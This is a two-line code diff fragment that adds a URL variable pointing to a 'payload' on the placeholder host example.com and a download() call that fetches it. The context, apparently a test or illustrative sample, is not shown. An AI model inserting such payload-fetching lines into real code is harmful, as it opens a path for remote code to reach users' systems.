@@ -1,0 +1,2 @@
+var url = 'http://example.com/payload';
+download('http://example.com/payload');
